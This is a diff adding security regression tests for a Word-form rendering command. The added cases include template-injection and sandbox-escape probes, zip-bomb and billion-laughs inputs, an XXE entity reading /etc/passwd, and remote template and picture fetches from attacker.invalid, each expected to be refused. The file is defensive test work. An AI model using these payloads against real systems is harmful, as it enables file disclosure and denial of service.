@@ -331,6 +331,85 @@ def _external_image_rels() -> bytes:
                         b'TargetMode="External"/></Relationships>')
 
 
+# --------------------------------------------------------------------------------------------
+# Office forms (vbhc render --form): the form is read safely and its tags run in a bounded sandbox
+
+
+def render_form(data: bytes) -> Build:
+    """``vbhc render SPEC --form form.docx``, the form's bytes given."""
+    def build(folder: Path) -> list[str]:
+        (folder / "form.docx").write_bytes(data)
+        return ["render", str(write_spec(folder)), "--form", str(folder / "form.docx"), "-o",
+                str(folder / "out.docx")]
+    return build
+
+
+def form_with(*texts: str) -> bytes:
+    """A form of one paragraph a text (XML-escaped)."""
+    from xml.sax.saxutils import escape
+
+    return build_docx("".join(para(escape(t)) for t in texts))
+
+
+def _literal_form(folder: Path) -> None:
+    """After a successful render: the spec's hostile summary printed as typed, never evaluated."""
+    with zipfile.ZipFile(folder / "out.docx") as zf:
+        xml = zf.read("word/document.xml").decode()
+    assert "{{ 7*7 }} &lt;w:p&gt; &amp;amp; ]]&gt;" in xml and "49" not in xml, xml[-500:]
+
+
+def _render_literal_form(folder: Path) -> list[str]:
+    (folder / "form.docx").write_bytes(form_with("{{ trich_yeu }}"))
+    spec = write_spec(folder, summary="{{ 7*7 }} <w:p> &amp; ]]>")
+    return ["render", str(spec), "--form", str(folder / "form.docx"), "-o", str(folder / "out.docx")]
+
+
+FORM_XXE = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+            f'<w:document {NS}><w:body><w:p><w:r><w:t>&x;{{{{ trich_yeu }}}}</w:t></w:r></w:p></w:body>'
+            '</w:document>')
+FORM_ATTACHED = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                 '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                 'relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
+                 'TargetMode="External"/></Relationships>')
+
+
+def form_cases() -> list[Case]:
+    loop = "{% for x in range(99999) %}{% for y in range(99999) %}{% endfor %}{% endfor %}"
+    return [
+        Case("form/mro", render_form(form_with("{{ ''.__class__.__mro__ }}")), REFUSED, error="¶1"),
+        Case("form/range-1e9", render_form(form_with("{% for x in range(10**9) %}x{% endfor %}")), REFUSED,
+             error="Range too big"),
+        Case("form/nested-loops", render_form(form_with(loop)), REFUSED, error="template steps"),
+        Case("form/include", render_form(form_with("{% include 'form.docx' %}")), REFUSED, error="include"),
+        Case("form/import", render_form(form_with("{% import 'form.docx' as f %}")), REFUSED, error="import"),
+        Case("form/extends", render_form(form_with("{% extends 'form.docx' %}")), REFUSED, error="extends"),
+        Case("form/macro-doubling", render_form(form_with(
+            "{% macro f(s) %}{{ f(s ~ s) }}{% endmacro %}{{ f('x') }}")), REFUSED, error="macro"),
+        Case("form/string-times-1e9", render_form(form_with("{{ 'x' * 10**9 }}")), REFUSED, error="at most"),
+        Case("form/center-1e9", render_form(form_with("{{ trich_yeu.center(10**9) }}")), REFUSED,
+             error="center"),
+        Case("form/output-10MB", render_form(form_with("{% for x in range(99999) %}" + "x" * 2000
+                                                       + "{% endfor %}")), REFUSED, error="larger than"),
+        Case("form/cut-table", render_form(build_docx(para("{% if false %}") + "<w:tbl><w:tr><w:tc>"
+                                                      + para("a{% endif %}") + "</w:tc></w:tr></w:tbl>")),
+             REFUSED, error="well-formed"),
+        Case("form/zip-bomb", render_form(bomb_member(1024 * 1024 * 1024)), REFUSED),
+        Case("form/billion-laughs", render_form(build_docx(document=LAUGHS + f'<w:document {NS}><w:body>'
+                                                           '<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
+                                                           '</w:body></w:document>')), REFUSED, error="DTD"),
+        Case("form/xxe", render_form(build_docx(document=FORM_XXE)), REFUSED, error="DTD"),
+        Case("form/attached-template", render_form(build_docx(para("x"), settings="", extra={
+            "word/_rels/settings.xml.rels": FORM_ATTACHED})), REFUSED, error="outside file"),
+        Case("form/INCLUDEPICTURE", render_form(build_docx(FIELD.format(
+            code='INCLUDEPICTURE "http://attacker.invalid/x.png"'))), REFUSED, error="INCLUDEPICTURE"),
+        Case("form/dev-zero", lambda f: ["render", str(write_spec(f)), "--form", "/dev/zero", "-o",
+                                         str(f / "out.docx")], REFUSED),
+        Case("form/literal-user-text", _render_literal_form, frozenset({0}), outputs=("out.docx",),
+             inspect=_literal_form),
+    ]
+
+
 def cases() -> list[Case]:
     big_word = "a" * 200_003
     repetitive = ("Nội dung lặp lại. " * 60_000)[:1_000_000]
@@ -447,6 +526,7 @@ def cases() -> list[Case]:
         Case("spec/U+202E", _summary("Tóm\u202etắt"), REFUSED, error="summary"),
         Case("spec/NUL", _summary("Tóm\x00tắt"), REFUSED, error="summary"),
         Case("spec/py-sys-exit-0", _py_exit, REFUSED),
+        *form_cases(),
     ]
 
 
